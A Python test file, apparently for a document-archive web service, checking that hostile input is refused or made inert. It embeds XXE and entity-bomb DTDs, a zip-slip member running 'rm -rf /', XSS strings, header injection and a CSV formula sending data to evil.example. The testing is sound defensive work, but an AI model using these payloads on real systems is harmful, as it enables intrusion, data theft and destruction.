"""Hostile input (issue 6): bombs, macros, DTDs, unsafe zip paths, polyglots, pixel floods,
broken PDFs, filename and header tricks, control characters, stored XSS in every field a page
shows, log and CSV injection, oversized and deeply nested JSON, guessed and foreign ids, and
CSRF variants. Each: the right status, nothing written when refused, never a 5xx.

(The older cases, executables and HTML named .pdf, SVG, empty files, 1,000 parts, oversize
parts, traversal and direction overrides in names, live in test_records_bad_input.py.)
"""

from __future__ import annotations

import io
import json
import re
import struct
import uuid
import zipfile
import zlib

import pytest
from factories import complaint_no, complete_files, docx, jpeg, metadata, metadata_part
from support import PASSWORD, assert_error
from test_records_bad_input import post, replace_part, unchanged  # noqa: F401 (a fixture)

SCRIPT = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'


def rezip(base: bytes, extra: dict[str, bytes] | None = None,
          replace: dict[str, bytes] | None = None) -> bytes:  # fmt: skip
    """A copy of an OOXML zip with members added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:  # fmt: skip
        for item in source.infolist():
            data = (replace or {}).get(item.filename, source.read(item))
            target.writestr(item, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def document_xml_with(prolog: str) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(docx())).read("word/document.xml").decode()
    return base.replace("?>", "?>" + prolog, 1).encode()


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
                  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>')  # fmt: skip
XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

REFUSED_OFFICE = {
    "zip bomb": lambda: rezip(docx(), extra={"word/media/zeros.bin": b"\0" * (48 * 2**20)}),
    "entity bomb": lambda: rezip(docx(), replace={
        "word/document.xml": document_xml_with(BILLION_LAUGHS)}),
    "external entity": lambda: rezip(docx(), replace={
        "word/document.xml": document_xml_with(XXE)}),
    "zip slip": lambda: rezip(docx(), extra={"../../../tmp/evil.sh": b"#!/bin/sh\nrm -rf /\n"}),
    "absolute member": lambda: rezip(docx(), extra={"/etc/cron.d/evil": b"* * * * * root x"}),
    "vba macro": lambda: rezip(docx(), extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
    "macro content type": lambda: rezip(docx(), replace={"[Content_Types].xml": zipfile.ZipFile(
        io.BytesIO(docx())).read("[Content_Types].xml").replace(
        b"document.main+xml", b"document.macroEnabled.main+xml")}),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(REFUSED_OFFICE))
def test_dangerous_office_documents_are_refused(api, unchanged, case):  # noqa: F811
    files = replace_part("handling_sheet", "处理单.docx", REFUSED_OFFICE[case]())
    response = post(api, [metadata_part(metadata())], files, 415)
    assert_error(response, 415, "unsupported_media_type", "handling_sheet")
    logged = api.get("/api/v1/access-log?user=archivist&outcome=refused&action=file",
                     "privacy").json["entries"][0]  # the newest first  # fmt: skip
    assert logged["detail"].startswith("415 unsupported_media_type")
    assert response.json["detail"] in logged["detail"]


def png_header(width: int, height: int) -> bytes:
    """A valid PNG claiming a huge canvas (a pixel flood for anything that decodes it)."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) \
        + chunk(b"IEND", b"")  # fmt: skip


def download(api, dossier, document):
    return api.get(f"/api/v1/dossiers/{dossier['id']}/documents/{document['id']}", "auditor")


@pytest.mark.parametrize(
    "case", ["polyglot jpeg+html", "pixel flood", "broken pdf", "reserved name", "4096-byte name"]
)
def test_accepted_oddities_are_stored_and_served_inertly(api, case):
    content = {
        "polyglot jpeg+html": jpeg() + b"<html><script>alert(1)</script></html>",
        "pixel flood": png_header(100_000, 100_000),
        "broken pdf": b"%PDF-1.7\n1 0 obj << /Kids [2 0 R] /Count 99999999 >>\n%%EO",
    }.get(case)
    filename = {
        "polyglot jpeg+html": "photo.jpg", "pixel flood": "flood.png",
        "broken pdf": "broken.pdf", "reserved name": "CON.pdf",
        "4096-byte name": "长" * 1365 + ".pdf",
    }[case]  # fmt: skip
    kind = "attachment"
    files = [*complete_files(), (kind, filename, content or complete_files()[0][2])]
    meta = metadata(complaint_no=complaint_no("I", 2023))
    dossier = post(api, [metadata_part(meta)], files, 201).json
    stored = next(d for d in dossier["documents"] if d["kind"] == kind)
    assert len(stored["filename"].encode()) <= 255
    assert "\r" not in stored["filename"] and "\n" not in stored["filename"]
    response = download(api, dossier, stored)
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert "Set-Cookie" not in response.headers
    assert not response.content_type.startswith("text/html")
    if content is not None:
        assert response.body == content


def test_header_injection_in_a_part_name_is_a_malformed_body(api, unchanged):  # noqa: F811
    files = [*complete_files(), ("attachment", "a\r\nSet-Cookie: stolen=1\r\n.pdf",
                                 complete_files()[0][2])]  # fmt: skip
    response = post(api, [metadata_part(metadata())], files, 400)
    assert_error(response, 400, "bad_request")
    assert "Set-Cookie" not in response.headers


@pytest.mark.parametrize("field", ["title", "summary", "department"])
def test_control_characters_in_text_are_refused(api, unchanged, field):  # noqa: F811
    for bad in ("a\x00b", "a\x1bb", "a\ud800b"):
        # ASCII-escaped JSON: the lone surrogate arrives as \ud800, as a hostile client sends it
        body = ("metadata", json.dumps(metadata(**{field: bad})))
        response = post(api, [body], complete_files(), 422)
        assert_error(response, 422, "invalid", field)


def test_stored_script_in_every_shown_field_is_escaped(api, app):
    meta = metadata(
        complaint_no=complaint_no("I", 2023), title=SCRIPT, summary=IMG, department=SCRIPT,
        capa_ref="CAPA<b>", customer={"name": SCRIPT, "organization": IMG, "phone": "13812345678",
                                      "address": SCRIPT},
        products=[{"name": SCRIPT, "batch_no": "XSS001", "expiry": "2030-01",
                   "manufacturer": IMG, "specification": SCRIPT}],
    )  # fmt: skip
    files = [*complete_files(), ("attachment", f"{SCRIPT}.pdf", complete_files()[0][2])]
    dossier = post(api, [metadata_part(meta)], files, 201).json
    page = login(app, "archivist")
    pages = [
        page.get(f"/dossiers/{dossier['id']}").text,
        page.get("/search?q=XSS001").text,
        page.get("/").text,
    ]
    for html in pages:
        assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in pages[0]
    records = login(app, "records")
    assert "<script>alert" not in records.get("/retention").text
    privacy = login(app, "privacy")
    page.get(f"/search?q={SCRIPT}")  # the search terms land in the log's details
    assert "<script>alert" not in privacy.get("/access-log").text


def login(app, username):
    import webtest

    browser = webtest.TestApp(app.app, extra_environ={"REMOTE_ADDR": "192.0.2.10"})
    form = browser.get("/login").forms[0]
    form["username"], form["password"] = username, PASSWORD
    form.submit(status=303)
    return browser


def test_log_and_csv_injection_are_neutralised(api, app):
    forged = 'x\r\n99,2026-01-01,admin,admin,export,ok,,,,1.2.3.4,"'
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for name in (forged, formula):
        app.post_json("/api/v1/auth/token", {"username": name, "password": "nope-nope"},
                      status=401)  # fmt: skip
    export = api.get("/api/v1/access-log/export.csv", "privacy").text
    import csv

    rows = list(csv.reader(io.StringIO(export)))
    assert all(len(row) == len(rows[0]) for row in rows)  # no forged row or column
    users = [row[2] for row in rows[1:]]
    assert not any(user.startswith(("=", "+", "-", "@")) for user in users)
    assert any("HYPERLINK" in user for user in users)  # kept, but inert
    assert not any(user.startswith("99,") for user in users)


def test_huge_and_deeply_nested_json_bodies(api):
    url = "/api/v1/holds"
    deep = "[" * 100_000 + "]" * 100_000
    assert_error(api.app.post(url, deep, headers={**api.headers("records"),
                 "Content-Type": "application/json"}, status=400), 400, "bad_request")  # fmt: skip
    huge = '{"reason": "' + "长" * 700_000 + '", "batch_no": "B1"}'
    assert_error(api.app.post(url, huge.encode(), headers={**api.headers("records"),
                 "Content-Type": "application/json"}, status=413), 413, "too_large")  # fmt: skip


def test_guessed_and_foreign_ids_on_every_route_that_takes_one(api):
    one = post(api, [metadata_part(metadata(complaint_no=complaint_no("I", 2023)))],
               complete_files(), 201).json  # fmt: skip
    other = post(api, [metadata_part(metadata(complaint_no=complaint_no("I", 2023)))],
                 complete_files(), 201).json  # fmt: skip
    guess = uuid.uuid4().hex
    foreign = other["documents"][0]["id"]
    for url, user in (
        (f"/api/v1/dossiers/{guess}", "auditor"),
        (f"/api/v1/dossiers/{guess}/documents/{foreign}", "auditor"),
        (f"/api/v1/dossiers/{one['id']}/documents/{foreign}", "auditor"),  # not its document
        (f"/api/v1/dossiers/{one['id']}/documents/{guess}", "auditor"),
        (f"/api/v1/dossiers/{guess}/corrections", "records"),
        (f"/api/v1/retention/certificates/{guess}", "records"),
        (f"/api/v1/retention/certificates/{guess}.pdf", "records"),
    ):
        response = api.get(url, user, status=404)
        assert response.json["error"] == "not_found"
    login(api.app, "archivist").get(f"/dossiers/{guess}", status=404)  # pages: the session
    api.post_json(f"/api/v1/dossiers/{guess}/holds", {"reason": "x"}, "records", status=404)
    hold = api.post_json(f"/api/v1/dossiers/{other['id']}/holds", {"reason": "x"}, "records",
                         status=201).json  # fmt: skip
    api.delete_json(f"/api/v1/dossiers/{one['id']}/holds/{hold['id']}", {"reason": "x"},
                    "records", status=404)  # another dossier's hold  # fmt: skip
    api.delete_json(f"/api/v1/dossiers/{other['id']}/holds/{hold['id']}", {"reason": "x"},
                    "records")  # fmt: skip
    api.post_json(f"/api/v1/retention/proposals/{guess}/approve", {}, "records", status=404)
    api.app.patch_json(f"/api/v1/users/{guess}", {"active": False},
                       headers=api.headers("admin"), status=404)  # fmt: skip


def test_csrf_variants_are_refused_and_logged(app, api):
    archivist = login(app, "archivist")
    form_page = archivist.get("/dossiers/new")
    token = re.search(r'name="csrf_token" value="([^"]+)"', form_page.text)[1]
    other = login(app, "records")
    other_token = re.search(r'name="csrf_token" value="([^"]+)"',
                            other.get("/retention").text)[1]  # fmt: skip
    for own, foreign in ((token, other_token), (other_token, token)):
        for variant in (
            {},
            {"csrf_token": "forged"},
            {"csrf_token": foreign},
            {"csrf_token": own[:-1] + ("x" if own[-1] != "x" else "y")},
        ):
            browser = archivist if own == token else other
            url = "/dossiers/new" if own == token else "/retention"
            browser.post(url, {"action": "run", "dry_run": "on", **variant}, status=400)
    # A token in a header from another site's page does not count either.
    archivist.post("/dossiers/new", {}, headers={"X-CSRF-Token": other_token}, status=400)
    denied = api.get("/api/v1/access-log?outcome=denied&user=archivist", "privacy").json
    assert any("CSRF" in (entry["detail"] or "") for entry in denied["entries"])
